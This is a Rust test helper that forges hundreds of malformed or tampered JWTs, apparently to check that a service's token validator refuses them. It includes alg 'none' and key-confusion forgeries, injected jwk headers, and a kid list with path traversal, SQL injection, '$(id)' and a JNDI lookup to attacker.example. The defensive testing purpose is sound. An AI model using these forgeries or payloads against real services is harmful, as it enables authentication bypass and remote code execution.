//! Hundreds of tokens with one thing wrong. They are signed with the service's own key unless the signature is wrong.

use base64::Engine;
use base64::prelude::BASE64_URL_SAFE_NO_PAD as BASE64;
use hmac::{Hmac, KeyInit, Mac};
use serde_json::{Value, json};
use sha2::{Sha256, Sha384, Sha512};
use support::keys;

/// All named algorithms, and wrong spellings of the two that are accepted, each for keys of its own.
const ALGORITHMS: [&str; 36] = [
    "none", "None", "NONE", "nOnE", "", "hs256", "Hs256", "HS256", "HS256 ", " HS256", "HS256\0", "HS-256",
    "HS384", "HS512", "rs256", "Rs256", "RS256", "RS256 ", " RS256", "RS256\0", "RS-256", "RS384", "RS512",
    "PS256", "PS384", "PS512", "ES256", "ES256K", "ES384", "ES512", "EdDSA", "Ed25519", "HMAC", "A256KW",
    "dir", "HS1",
];

/// Key ids of attackers: those of other tokens and keys, paths, URLs, and parts of queries.
const KEY_NAMES: [&str; 14] = [
    "",
    "0",
    "unknown",
    "*",
    "\0",
    "/dev/null",
    "../../../../../../dev/null",
    "file:///etc/hostname",
    "https://attacker.example/key",
    "' OR '1'='1",
    "x' UNION SELECT '' -- ",
    "|| true",
    "$(id)",
    "${jndi:ldap://attacker.example/a}",
];

/// Makes bad tokens from a good one.
#[derive(Clone)]
pub struct Forge {
    /// A text or an RSA key.
    key: String,
    header: Value,
    claims: Value,
    good: String,
}

impl Forge {
    /// Starts from a token that `key` has signed.
    pub fn after(good: &str, key: &str) -> Self {
        let part = |n: usize| {
            serde_json::from_slice(&BASE64.decode(good.split('.').nth(n).unwrap()).unwrap()).unwrap()
        };
        let forge = Self { key: key.into(), header: part(0), claims: part(1), good: good.to_owned() };
        assert!(forge.sign(&forge.header, &forge.claims).len() == good.len(), "the key is another");
        forge
    }

    fn is_rsa(&self) -> bool {
        self.key.starts_with("-----BEGIN")
    }

    /// The algorithms that are not that of the key.
    fn other_algorithms(&self) -> impl Iterator<Item = &'static str> {
        let ours = if self.is_rsa() { "RS256" } else { "HS256" };
        ALGORITHMS.into_iter().filter(move |alg| *alg != ours)
    }

    fn sign(&self, header: &Value, claims: &Value) -> String {
        self.sign_bytes(header.to_string().as_bytes(), claims.to_string().as_bytes())
    }

    fn sign_bytes(&self, header: &[u8], claims: &[u8]) -> String {
        self.seal(&format!("{}.{}", BASE64.encode(header), BASE64.encode(claims)))
    }

    /// Appends a genuine signature to any header and claims.
    fn seal(&self, message: &str) -> String {
        format!("{message}.{}", BASE64.encode(self.signature(message)))
    }

    fn signature(&self, message: &str) -> Vec<u8> {
        if self.is_rsa() {
            keys::rs256(&self.key, message)
        } else {
            mac::<Hmac<Sha256>>(self.key.as_bytes(), message)
        }
    }

    /// The same claims, signed by us: shows that refused tokens are not refused for their signature.
    pub fn control(&self) -> String {
        self.sign(&self.header, &self.claims)
    }

    /// The `kid` of the good token.
    pub fn kid(&self) -> String {
        self.header["kid"].as_str().unwrap().to_owned()
    }

    /// The same claims under another `kid` and algorithm, signed by our key.
    pub fn under(&self, kid: &str, alg: &str) -> String {
        self.sign(&with(&with(&self.header, "kid", kid), "alg", alg), &self.claims)
    }

    /// Every bad token, with its fault in words.
    pub fn all(&self) -> Vec<(String, String)> {
        let mut all = self.headers();
        all.extend(self.all_claims());
        all.extend(self.forms());
        all.extend(self.keys());
        all.extend(self.encodings());
        all
    }

    /// Unusual good tokens, which must be accepted.
    pub fn unusual(&self) -> Vec<(String, String)> {
        let iat = self.claims["iat"].as_u64().unwrap();
        let mut claims: Vec<_> = [
            ("issued five seconds ahead", "iat", json!(iat + 5)),
            ("expires next second", "exp", json!(iat + 1)),
            ("good for a day", "exp", json!(iat + 86_400)),
            ("good since before", "nbf", json!(iat - 60)),
            ("good in five seconds", "nbf", json!(iat + 5)),
            ("a claim of somebody else's", "is_staff", json!(true)),
            ("a deep claim", "deep", json!([[[[{ "exp": 0 }]]]])),
        ]
        .map(|(name, claim, value)| {
            (name.to_owned(), self.sign(&self.header, &with(&self.claims, claim, value)))
        })
        .into();
        let spaced = format!(" {}\n", self.claims);
        claims.push((
            "white space".to_owned(),
            self.sign_bytes(self.header.to_string().as_bytes(), spaced.as_bytes()),
        ));
        let escaped = self.header.to_string().replace("alg", r"\u0061lg");
        claims.push((
            "escapes".to_owned(),
            self.sign_bytes(escaped.as_bytes(), self.claims.to_string().as_bytes()),
        ));
        if !self.is_rsa() {
            // HMAC fills a key up with zeroes (RFC 2104 section 2), so the two are one key.
            let twin = Self { key: format!("{}\0", self.key), ..self.clone() };
            claims.push(("the secret and a NUL".to_owned(), twin.control()));
        }
        claims
    }

    fn headers(&self) -> Vec<(String, String)> {
        let mut headers = changes(&self.header);
        for alg in self.other_algorithms() {
            headers.push((format!("alg {alg}"), with(&self.header, "alg", alg)));
        }
        for typ in [
            "jwt",
            "Jwt",
            "JWT ",
            "at+jwt",
            "reset+jwt",
            "logout+jwt",
            "JWS",
            "JWE",
            "JOSE",
            "application/jwt",
            "",
        ] {
            headers.push((format!("typ {typ}"), with(&self.header, "typ", typ)));
        }
        for kid in KEY_NAMES {
            headers.push((format!("kid {kid}"), with(&self.header, "kid", kid)));
        }
        for extra in [
            "crit", "jku", "jwk", "x5u", "x5c", "x5t", "x5t#S256", "b64", "zip", "cty", "enc", "nonce", "Alg",
        ] {
            for value in [
                json!([]),
                json!(["exp"]),
                json!("https://attacker.example"),
                json!(false),
                json!({}),
                json!(null),
            ] {
                headers.push((format!("{extra} {value}"), with(&self.header, extra, value)));
            }
        }
        let known = with(&with(&self.header, "b64", true), "crit", json!(["b64"]));
        headers.push(("a crit that names a member".to_owned(), known));
        let values: Vec<_> = self.header.as_object().unwrap().values().cloned().collect();
        headers.push(("header as an array".to_owned(), values.into()));
        headers.into_iter().map(|(name, header)| (name, self.sign(&header, &self.claims))).collect()
    }

    fn all_claims(&self) -> Vec<(String, String)> {
        let iat = self.claims["iat"].as_u64().unwrap();
        let mut claims = changes(&self.claims);
        for (claim, value) in [
            ("iss", json!("another")),
            ("iss", json!([self.claims["iss"]])),
            ("aud", json!("another")),
            ("aud", json!([self.claims["aud"]])),
            ("sub", json!("7d9f4a3c-1b2e-4c5d-8e6f-9a0b1c2d3e4f")),
            ("user_id", json!("7d9f4a3c-1b2e-4c5d-8e6f-9a0b1c2d3e4f")),
            ("username", json!("nobody")),
            ("username", json!("")),
            ("ver", json!(1)),
            ("ver", json!(-1)),
            ("ver", json!(4_294_967_296_u64)),
            ("exp", json!(iat)),
            ("exp", json!(iat - 1)),
            ("exp", json!(iat - 59)),
            ("exp", json!(iat - 61)),
            ("exp", json!(iat + 86_401)),
            ("exp", json!(u64::MAX)),
            ("exp", json!(0)),
            ("iat", json!(iat + 6)),
            ("nbf", json!(iat + 6)),
            ("nbf", json!(null)),
            ("nbf", json!("0")),
            ("jti", json!("")),
        ] {
            claims.push((format!("{claim} {value}"), with(&self.claims, claim, value)));
        }
        let values: Vec<_> = self.claims.as_object().unwrap().values().cloned().collect();
        claims.push(("array".to_owned(), values.into()));
        claims.push(("string".to_owned(), "x".into()));
        claims.into_iter().map(|(name, claims)| (name, self.sign(&self.header, &claims))).collect()
    }

    /// Signatures by another key, by another algorithm, or of another text.
    fn keys(&self) -> Vec<(String, String)> {
        let (header, claims) = (&self.header, &self.claims);
        let text = |header: &Value| {
            format!("{}.{}", BASE64.encode(header.to_string()), BASE64.encode(claims.to_string()))
        };
        let ours = text(header);
        let forged = |message: &str, tag: &[u8]| format!("{message}.{}", BASE64.encode(tag));
        let by = |secret: &[u8]| forged(&ours, &mac::<Hmac<Sha256>>(secret, &ours));
        let named = |alg: &str| text(&with(header, "alg", alg));
        let secret = self.key.as_bytes();
        let hs384 = |message: &str| forged(message, &mac::<Hmac<Sha384>>(secret, message));
        let hs512 = |message: &str| mac::<Hmac<Sha512>>(secret, message);
        let own_key = with(
            header,
            "jwk",
            json!({ "kty": "oct", "k": BASE64.encode("attacker"), "kid": header["kid"] }),
        );
        let unsigned = |alg| (format!("alg {alg} without a signature"), format!("{}.", named(alg)));
        let mut all: Vec<_> = self.other_algorithms().map(unsigned).collect();
        all.extend(
            [
                ("by no secret", by(b"")),
                ("by a NUL", by(b"\0")),
                ("by the kid", by(header["kid"].as_str().unwrap().as_bytes())),
                ("by the issuer", by(claims["iss"].as_str().unwrap().as_bytes())),
                ("by most of the secret", by(&secret[..secret.len() - 1])),
                ("by the secret and a line break", by(&[secret, b"\n"].concat())),
                ("by the secret, encoded", by(BASE64.encode(secret).as_bytes())),
                (
                    "by the jwk in the header",
                    forged(&text(&own_key), &mac::<Hmac<Sha256>>(b"attacker", &text(&own_key))),
                ),
                ("HS384", hs384(&named("HS384"))),
                ("HS384 under our name", hs384(&ours)),
                ("HS512", forged(&named("HS512"), &hs512(&named("HS512")))),
                ("HS512 under our name", forged(&ours, &hs512(&ours))),
                ("HS512 cut to our length", forged(&ours, &hs512(&ours)[..32])),
                ("of another text", forged(&ours, &self.signature("another"))),
                ("over the JSON", forged(&ours, &self.signature(&format!("{header}.{claims}")))),
                ("of zeroes", forged(&ours, &[0; 32])),
            ]
            .map(|(name, token)| (format!("signed {name}"), token)),
        );
        all.extend(self.confusions(&ours, &named("HS256"), &named("RS256")));
        all
    }

    /// Signatures of one algorithm by a key of the other. `hs256` and `rs256` are the text under these names.
    fn confusions(&self, ours: &str, hs256: &str, rs256: &str) -> Vec<(String, String)> {
        let signed = |message: &str, tag: &[u8]| format!("{message}.{}", BASE64.encode(tag));
        if !self.is_rsa() {
            let by_rsa = |message: &str| signed(message, &keys::rs256(keys::RSA_2048, message));
            return [("RS256", by_rsa(rs256)), ("RS256 under our name", by_rsa(ours))]
                .map(|(name, token)| (name.to_owned(), token))
                .into();
        }
        let (modulus, exponent) = keys::public(&self.key);
        let jwk = json!({ "e": BASE64.encode(exponent), "kty": "RSA", "n": BASE64.encode(&modulus) });
        let public = [
            ("PEM", keys::PUBLIC.into()),
            ("PEM without its last line break", keys::PUBLIC.trim().into()),
            ("PEM of PKCS#1", keys::PUBLIC_PKCS1.into()),
            ("DER", keys::der(keys::PUBLIC)),
            ("JWK", jwk.to_string().into_bytes()),
            ("encoded modulus", jwk["n"].as_str().unwrap().into()),
            ("modulus", modulus),
        ];
        let hmac = |secret: &[u8], message: &str| signed(message, &mac::<Hmac<Sha256>>(secret, message));
        let mut all = Vec::new();
        for (name, secret) in public {
            all.push((format!("HS256 by the public key, {name}"), hmac(&secret, hs256)));
            all.push((format!("HS256 by the public key, {name}, under our name"), hmac(&secret, ours)));
        }
        all.push(("another RSA key".to_owned(), signed(ours, &keys::rs256(keys::RSA_2048_OTHER, ours))));
        all
    }

    /// Other spellings of the same bytes, and text in other encodings than UTF-8.
    fn encodings(&self) -> Vec<(String, String)> {
        let (text, _) = self.good.rsplit_once('.').unwrap();
        let dot = text.find('.').unwrap();
        let mut all = Vec::new();
        // A comma, a space and a tab are no part of any token: `http_and_every_kind_of_api_agree_on_every_header`.
        for c in "=\n\r\0+/?%;:\"'\\~\u{7F}é\u{A0}\u{200B}\u{FEFF}．。💥".chars() {
            for index in [1, dot, dot + 1, text.len(), self.good.len()] {
                let put = |text: &str| format!("{}{c}{}", &text[..index], &text[index..]);
                all.push((format!("{c:?} at {index}"), put(&self.good)));
                if index <= text.len() {
                    all.push((format!("{c:?} at {index}, signed"), self.seal(&put(text))));
                }
            }
        }
        let last = self.good.len() - 1;
        let signature = self.good.rsplit('.').next().unwrap();
        for other in loosened(self.good.as_bytes()[last], if signature.len() % 4 == 2 { 16 } else { 4 }) {
            all.push((format!("unused bits: {other}"), format!("{}{other}", &self.good[..last])));
        }
        let (header, claims) = (self.header.to_string(), self.claims.to_string());
        let utf_16 =
            |text: &str, to: fn(u16) -> [u8; 2]| text.encode_utf16().flat_map(to).collect::<Vec<_>>();
        for (name, to) in
            [("UTF-16LE", u16::to_le_bytes as fn(u16) -> [u8; 2]), ("UTF-16BE", u16::to_be_bytes)]
        {
            all.push((format!("header in {name}"), self.sign_bytes(&utf_16(&header, to), claims.as_bytes())));
            all.push((format!("claims in {name}"), self.sign_bytes(header.as_bytes(), &utf_16(&claims, to))));
        }
        let mark = |text: &str| format!("\u{FEFF}{text}");
        all.push((
            "a mark before the header".to_owned(),
            self.sign_bytes(mark(&header).as_bytes(), claims.as_bytes()),
        ));
        all.push((
            "a mark before the claims".to_owned(),
            self.sign_bytes(header.as_bytes(), mark(&claims).as_bytes()),
        ));
        let latin_1 = claims.replace("serverless", "serverl\u{1}ss").into_bytes();
        let latin_1: Vec<_> = latin_1.into_iter().map(|byte| if byte == 1 { 0xE9 } else { byte }).collect();
        all.push(("claims in Latin-1".to_owned(), self.sign_bytes(header.as_bytes(), &latin_1)));
        all
    }

    fn forms(&self) -> Vec<(String, String)> {
        let parts: Vec<_> = self.good.split('.').collect();
        let [header, claims, signature] = parts[..] else { panic!("{}", self.good) };
        let (header_text, claims_text) = (self.header.to_string(), self.claims.to_string());
        let claiming = |text: &str| self.sign_bytes(header_text.as_bytes(), text.as_bytes());
        let under = |text: &str| self.sign_bytes(text.as_bytes(), claims_text.as_bytes());
        let twice = |text: &str, member: &str| format!("{{{member},{}", &text[1..]);
        [
            ("no signature", format!("{header}.{claims}.")),
            ("one part", header.to_owned()),
            ("two parts", format!("{header}.{claims}")),
            ("four parts", format!("{}.{signature}", self.good)),
            ("four parts, the last empty", format!("{}.", self.good)),
            ("four parts, the first empty", format!(".{}", self.good)),
            ("five parts", format!("{}.x.y", self.good)),
            ("no header", format!(".{claims}.{signature}")),
            ("no claims", format!("{header}..{signature}")),
            ("no claims, signed", self.seal(&format!("{header}."))),
            ("dots", "..".to_owned()),
            ("short signature", self.good[..self.good.len() - 1].to_owned()),
            ("long signature", format!("{}A", self.good)),
            ("signature twice", format!("{}{signature}", self.good)),
            ("signature of nothing", format!("{header}.{claims}.AAAA")),
            ("standard alphabet", format!("{header}.{claims}.{}", "+/".repeat(21))),
            (
                "changed claims",
                format!("{header}.{}.{signature}", BASE64.encode(claims_text.replace("alice", "alicf"))),
            ),
            ("duplicate claim", claiming(&twice(&claims_text, r#""exp":9999999999"#))),
            ("duplicate claim, escaped", claiming(&twice(&claims_text, r#""\u0065xp":9999999999"#))),
            ("duplicate alg", under(&twice(&header_text, r#""alg":"none""#))),
            (
                "duplicate alg, the same",
                under(&twice(&header_text, &format!(r#""alg":{}"#, self.header["alg"]))),
            ),
            ("duplicate alg, escaped", under(&twice(&header_text, r#""\u0061lg":"none""#))),
            ("header no JSON", under("{")),
            ("header of two objects", under(&header_text.repeat(2))),
            ("claims no JSON", claiming("sub=alice")),
            ("claims cut short", claiming(&claims_text[..claims_text.len() - 1])),
            ("claims of two objects", claiming(&claims_text.repeat(2))),
            ("claims in an array", claiming(&format!("[{claims_text}]"))),
            ("claims in a string", claiming(&json!(claims_text).to_string())),
            ("claims nested", claiming(&"[".repeat(5_000))),
            ("claims null", claiming("null")),
            ("NUL after the claims", claiming(&format!("{claims_text}\0"))),
            ("half a surrogate pair", claiming(&claims_text.replace("Alice", r"Alice\ud800"))),
            ("exp as a float", claiming(&claims_text.replace("\"exp\":", "\"exp\":0."))),
            ("exp beyond all numbers", claiming(&claims_text.replace("\"exp\":", "\"exp\":1e400,\"x\":"))),
            ("long", format!("{header}.{}.{signature}", "A".repeat(9_000))),
            ("10 KB, signed", claiming(&format!("{claims_text}{}", " ".repeat(9_000)))),
            (
                "JSON serialisation",
                json!({ "protected": header, "payload": claims, "signature": signature }).to_string(),
            ),
        ]
        .map(|(name, token)| (name.to_owned(), token))
        .into()
    }
}

fn mac<M: Mac + KeyInit>(secret: &[u8], message: &str) -> Vec<u8> {
    <M as KeyInit>::new_from_slice(secret).unwrap().chain_update(message).finalize().into_bytes().to_vec()
}

/// The other characters that decode to the same last byte of a signature, of this many altogether.
fn loosened(last: u8, spellings: usize) -> impl Iterator<Item = char> {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let index = ALPHABET.iter().position(|&c| c == last).unwrap();
    let first = index / spellings * spellings;
    (first..first + spellings).filter(move |other| *other != index).map(|other| char::from(ALPHABET[other]))
}

fn with(object: &Value, member: &str, value: impl Into<Value>) -> Value {
    let mut object = object.clone();
    object[member] = value.into();
    object
}

/// Every member missing, and of every wrong type.
fn changes(object: &Value) -> Vec<(String, Value)> {
    let mut all = Vec::new();
    for (member, value) in object.as_object().unwrap() {
        let mut without = object.clone();
        without.as_object_mut().unwrap().remove(member);
        all.push((format!("no {member}"), without));
        let text = value.as_u64().map_or(json!(7), |number| json!(number.to_string()));
        let float =
            value.as_u64().map_or(json!(1.5), |number| json!(format!("{number}.5").parse::<f64>().unwrap()));
        for wrong in [Value::Null, json!(true), json!([value]), json!({ "a": value }), text, float] {
            all.push((format!("{member} {wrong}"), with(object, member, wrong)));
        }
    }
    all
}
